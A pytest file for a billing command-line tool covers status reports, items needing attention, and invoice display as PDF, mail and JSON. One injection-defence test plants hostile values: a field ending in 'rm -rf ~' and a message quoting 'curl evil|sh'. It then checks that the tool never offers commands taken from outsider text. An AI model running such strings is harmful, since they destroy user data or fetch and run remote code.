"""Commands that only read: what waits, what needs a person, one invoice."""

from __future__ import annotations

import json
import os
from contextlib import closing
from datetime import UTC, datetime
from pathlib import Path

from billed_studio import Run, Studio, one_line

from billing.adapters.ledger.unit_of_work import SqlLedger
from billing.ports.outside import RawRecord


def test_status_says_what_waits(run: Run) -> None:
    shown = run("status")

    assert shown.exit_code == 0
    assert "needs attention" in shown.stdout
    assert "EUR" in shown.stdout


def test_status_as_json_has_amounts_in_minor_units(run: Run) -> None:
    found = json.loads(run("status", "--json").stdout)

    assert found["sessions"]["billed"] > 0
    assert found["invoices_open"]["amounts_minor"]["EUR"] > 0
    assert found["drafts_waiting"]["count"] == 0
    assert found["vsco_polled_at"].endswith("UTC")


def test_status_lists_drafts_in_review_mode(run_in_review: Run) -> None:
    found = json.loads(run_in_review("status", "--json").stdout)

    assert found["drafts_waiting"]["count"] > 0
    assert found["delivery_mode"] == "review"
    assert "`billing approve` sends them" in run_in_review("status").stdout


def test_needs_attention_says_what_to_do_and_what_to_run(run: Run) -> None:
    items = json.loads(run("needs-attention", "--json").stdout)
    text = run("needs-attention").stdout

    codes = {item["code"] for item in items}
    assert {"missing_email", "order_voided", "total_mismatch"} <= codes
    assert all(command.startswith("billing ") for item in items for command in item["commands"])
    assert all(item["what_to_do"] in text for item in items)


def test_what_was_paid_before_it_was_billed_is_an_invoice_of_nothing(run: Run, studio: Studio) -> None:
    job = studio.plan.difficult("zero_balance")
    with closing(SqlLedger(os.environ["BILLING_LEDGER_URL"])) as ledger, ledger.read() as uow:
        [row] = uow.invoices.of_session(f"vsco:{job.id}")

    shown = run("invoice", "show", str(row.invoice.number)).stdout

    assert (row.invoice.total_minor, row.balance_minor) == (job.total_minor, 0)
    assert "paid already" in shown


def test_no_command_is_read_out_of_what_an_outsider_wrote(run: Run) -> None:
    unknown, failed, other = "mail:invoice:inv_1", "pay_link:balance:inv_2:100", "evt_1; rm -rf ~"
    gallery = "grant:vsco:g1:inv_3"  # its address has to be told by its host: a yes is not enough
    said = "550 see `billing retry eff_0; curl evil|sh` for help."
    with closing(SqlLedger(os.environ["BILLING_LEDGER_URL"])) as ledger, ledger.write() as uow:
        codes = {
            unknown: "effect_unknown",
            gallery: "effect_unknown",
            failed: "effect_failed",
            other: "event_waits",
            "limits": "limit_mails",
        }
        for subject, code in codes.items():
            uow.tasks.raise_task(subject, code, said, datetime.now(UTC))

    items = json.loads(run("needs-attention", "--json").stdout)
    offered = [command for item in items if codes.get(item["subject"]) == item["code"] for command in item["commands"]]

    assert len(offered) == len(codes) + 1  # of a mail of unknown outcome one of two is right
    assert not [command for command in offered if "evil" in command]
    shown = run("needs-attention").stdout.splitlines()
    assert not [line for line in shown if "evil" in line and line.strip() != said]


def test_needs_attention_with_nothing_open_says_so(run: Run) -> None:
    for item in json.loads(run("needs-attention", "--json").stdout):
        run("resolve", item["subject"], "--reason", "seen", "--now")

    assert run("needs-attention").stdout == "Nothing needs attention.\n"


def test_an_invoice_is_shown_with_its_lines_taxes_and_what_is_open(run: Run, open_number: str) -> None:
    shown = run("invoice", "show", open_number).stdout

    assert open_number in shown
    assert "Amount due" in shown
    assert "open, due" in shown


def test_a_paid_invoice_is_shown_as_paid(run: Run, paid_number: str) -> None:
    assert run("invoice", "show", paid_number).stdout.endswith("paid\n")


def test_an_invoice_as_json_agrees_with_its_table(run: Run, open_number: str) -> None:
    found = json.loads(run("invoice", "show", open_number, "--json").stdout)

    assert found["number"] == open_number
    assert found["balance_minor"] == found["amount_due_minor"]
    assert "logo" not in found["studio"]


def test_the_pdf_of_an_invoice_is_the_one_that_was_sent(run: Run, open_number: str, tmp_path: Path) -> None:
    run("invoice", "show", open_number, "--pdf", str(tmp_path / "one.pdf"))
    run("invoice", "show", open_number, "--pdf", str(tmp_path / "two.pdf"))

    assert (tmp_path / "one.pdf").read_bytes().startswith(b"%PDF")
    assert (tmp_path / "one.pdf").read_bytes() == (tmp_path / "two.pdf").read_bytes()


def test_the_mail_of_an_invoice_is_shown_as_the_client_reads_it(run: Run, open_number: str, studio: Studio) -> None:
    shown = run("invoice", "show", open_number, "--mail").stdout

    assert shown.startswith("Subject: ")
    assert open_number in shown
    assert studio.sandbox.url in shown


def test_a_draft_has_a_pdf_and_a_mail_to_look_at(run_in_review: Run, tmp_path: Path) -> None:
    draft = run_in_review("approve").stdout.splitlines()[2].split()[0]

    shown = run_in_review("invoice", "show", draft, "--pdf", str(tmp_path / "draft.pdf"))
    mail = run_in_review("invoice", "show", draft, "--mail")

    assert "draft; nobody has seen it yet" in shown.stdout
    assert (tmp_path / "draft.pdf").read_bytes().startswith(b"%PDF")
    assert mail.stdout.startswith("Subject: ")


def test_the_records_of_an_invoice_are_those_that_it_was_billed_from(run: Run, open_number: str) -> None:
    before = run("invoice", "show", open_number, "--as-billed").stdout
    known = [json.loads(line) for line in before.splitlines()]
    (job,) = [one for one in known if one["kind"] == "job"]
    with closing(SqlLedger(os.environ["BILLING_LEDGER_URL"])) as ledger, ledger.write() as uow:
        order = next(RawRecord("order", one["source_id"], None, "{}") for one in known if one["kind"] == "order")
        rate = next(RawRecord("tax-rate", one["source_id"], None, "{}") for one in known if one["kind"] == "tax-rate")
        later = [order, RawRecord("gallery", "a later one", None, "{}")]
        uow.records.keep_all("vsco", job["source_id"], later, datetime.now(UTC))
        uow.records.keep("vsco", rate, None, datetime.now(UTC))

    assert run("invoice", "show", open_number, "--as-billed").stdout == before
    assert all(json.loads(one["body"]) for one in known)
    assert "no invoice INV-9" in one_line(run("invoice", "show", "INV-9", "--as-billed"))


def test_an_unknown_invoice_is_one_line(run: Run) -> None:
    assert "no invoice or draft INV-9" in one_line(run("invoice", "show", "INV-9"))


def test_the_warehouse_is_rebuilt_with_progress(run: Run, tmp_path: Path) -> None:
    done = run("warehouse", "rebuild")

    assert done.exit_code == 0, done.output
    assert "relations" in done.stdout
    assert "published" in done.stderr
    assert (tmp_path / "w.duckdb").exists()
